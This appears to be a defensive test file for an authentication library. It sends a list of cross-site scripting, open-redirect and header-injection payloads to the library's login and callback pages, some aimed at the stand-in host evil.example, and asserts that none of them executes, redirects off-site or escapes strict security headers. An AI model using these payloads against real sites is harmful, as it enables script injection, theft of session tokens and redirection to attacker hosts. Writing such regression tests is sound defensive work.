/** Every page, and every answer on the way to one, with what attackers put into addresses and forms. */
import { describe, expect, test } from "vitest"
import { MemoryAdapter } from "../../src/adapters/memory.js"
import type { Provider } from "../../src/index.js"
import Email from "../../src/providers/email.js"
import { type Answer, openApp } from "../support/app.js"

const calls = ["alert(1)", "alert`1`", "location='//evil.example'"]
const payloads = [
  ...calls.flatMap((call) => [
    `<script>${call}</script>`,
    `"><script>${call}</script>`,
    `'><img src=x onerror=${call}>`,
    `"><svg/onload=${call}>`,
    `</title><script>${call}</script>`,
    `</style><script>${call}</script>`,
    `</textarea><script>${call}</script>`,
    `" autofocus onfocus="${call}`,
    `' onmouseover='${call}`,
    `javascript:${call}`,
    `JaVaScRiPt:${call}`,
    `java\tscript:${call}`,
    `data:text/html,<script>${call}</script>`,
    `vbscript:${call}`,
    `<iframe srcdoc="<script>${call}</script>">`,
    `<a href="javascript:${call}">x</a>`,
    `<math><mtext></p><img src onerror=${call}>`,
  ]),
  ...[
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "{{constructor.constructor('x')()}}",
  ],
  ...[
    "<form action=//evil.example><input name=csrfToken>",
    "<style>@import '//evil.example'</style>",
    "<!--",
    "]]>",
    "<![CDATA[",
  ],
  ...[
    "\u2028<script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;",
    "&#x3C;script&#x3E;",
    "\\u003cscript\\u003e",
  ],
]

const example: Provider = {
  id: "example",
  name: `<script>alert("${"provider"}")</script>`,
  type: "oauth",
  clientId: "the-client",
  clientSecret: "the-client-secret",
  authorization: { url: "https://idp.example/authorize", params: { response_mode: "form_post" } },
  token: "https://127.0.0.1:9/token",
  userinfo: "https://127.0.0.1:9/userinfo",
}
const app = openApp({
  adapter: MemoryAdapter(),
  session: { strategy: "jwt" },
  providers: [
    ...openApp().options.providers,
    example,
    Email({ limits: false, code: true, sendVerificationRequest: () => undefined }),
  ],
  theme: { logo: 'javascript:alert(1)" onerror="alert(1)', brandColor: "red;}</style><script>alert(1)</script>" },
})
const browser = app.browser()
const csrfToken = await browser.csrfToken()

const parameters = [
  ...["error", "callbackUrl", "provider", "type", "state", "code", "iss", "email", "token", "username", "password"],
  ...["csrfToken", "login_hint", "target_link_uri", "error_description", "session_state", "retryAfter", "x"],
]

/** What is wrong with an answer to this payload; in words. */
function problemsOf({ headers, status, text, location }: Answer, payload: string): string[] {
  const problems: string[] = []
  if (status >= 500) problems.push(`status ${status}`)
  const type = headers.get("content-type") ?? ""
  if (location !== null && (text !== "" || type.includes("html"))) problems.push("a redirect with a body")
  if (location !== null && !/^https:\/\/(?:app|idp)\.example\//.test(location)) problems.push(`leads to ${location}`)
  if (/[<>"]/.test(payload) && type.includes("html") && text.includes(payload)) problems.push("is shown as markup")
  if (/<script|<iframe|<svg|<math|<base|<meta http-equiv| on\w+=|javascript:|@import/i.test(withoutText(text)))
    problems.push("runs")
  if (!type.includes("html")) return problems
  const policy = headers.get("content-security-policy") ?? ""
  for (const directive of ["default-src 'none'", "frame-ancestors 'none'", "base-uri 'none'", "form-action 'self'"])
    if (!policy.includes(directive)) problems.push(`no ${directive}`)
  if (/script-src|unsafe-inline|\*/.test(policy)) problems.push(policy)
  if (headers.get("x-frame-options") !== "DENY") problems.push("may be framed")
  if (headers.get("x-content-type-options") !== "nosniff") problems.push("may be sniffed")
  if (!/^(?:no-referrer|strict-origin)$/.test(headers.get("referrer-policy") ?? "")) problems.push("tells its address")
  return problems
}

/** The tags of a page: what a browser takes for text is left out, as are the values of attributes. */
const withoutText = (html: string): string =>
  [...html.matchAll(/<[a-z!/][^>]*>/gi)].map(([tag]) => tag.replace(/"[^"]*"/g, '""')).join("")

async function tryAll(send: (payload: string, query: URLSearchParams) => Promise<Answer>): Promise<string[]> {
  const wrong: string[] = []
  for (const payload of payloads) {
    const query = new URLSearchParams(parameters.map((name) => [name, payload]))
    const problems = problemsOf(await send(payload, query), payload)
    if (problems.length > 0) wrong.push(`${payload}: ${problems.join(", ")}`)
  }
  return wrong
}

describe("nothing that a request says becomes markup, a script or another site", () => {
  test.each(["signin", "signin/example", "signout", "error", "verify-request", "callback/example", "callback/email"])(
    "on the way by GET %s (GHSA-qw6h-vgh9-j6wx, CVE-2024-43796)",
    async (path) => {
      expect(payloads.length).toBeGreaterThanOrEqual(60)
      expect(await tryAll((_, query) => browser.get(`${path}?${query}`))).toEqual([])
      expect(await tryAll((payload) => browser.get(`${path}/${encodeURIComponent(payload)}`))).toEqual([])
    },
  )

  test.each(["signin/example", "signin/email", "callback/credentials", "callback/email", "signout"])(
    "nor by POST %s",
    async (path) => {
      // A password of its own: the watch for secrets would take a payload that is shown, as it may be, for the password.
      const send = (payload: string, query: URLSearchParams) =>
        browser.post(path, { ...Object.fromEntries(query), password: `${payload} as a password`, csrfToken })
      expect(await tryAll(send)).toEqual([])
    },
  )

  test("nor as the state of an answer that a provider posts (CVE-2018-14655)", async () => {
    const send = (state: string) => browser.post("callback/example", { state, code: state, error: state, iss: state })
    expect(await tryAll(send)).toEqual([])
    const answer = await browser.follow(await send(payloads[0] as string))
    expect(problemsOf(answer, payloads[0] as string)).toEqual([])
  })
})

test("an address that cannot be sent is not sent, and breaks nothing (GHSA-3f6h-2hrp-w5wx, CVE-2026-40074)", async () => {
  const odd = [
    "/x\r\nSet-Cookie: a=b",
    "https://app.example/\n",
    "\u0000",
    "http://[",
    "/\ud800",
    "https://",
    "a".repeat(100_000),
  ]
  for (const answer of odd) {
    const options = { logger: { error: () => {} } }
    for (const callbacks of [{ redirect: () => answer }, { signIn: () => answer }]) {
      const visitor = openApp({ ...options, callbacks }).browser()
      const page = await visitor.get("signin?callbackUrl=/x")
      expect(page.status).toBeLessThan(500)
      const signedIn = await visitor.signIn()
      expect(signedIn.status).toBe(302)
      expect(signedIn.location).toMatch(/^https:\/\/app\.example\//)
      expect(visitor.received.join()).not.toContain("a=b")
    }
  }
})
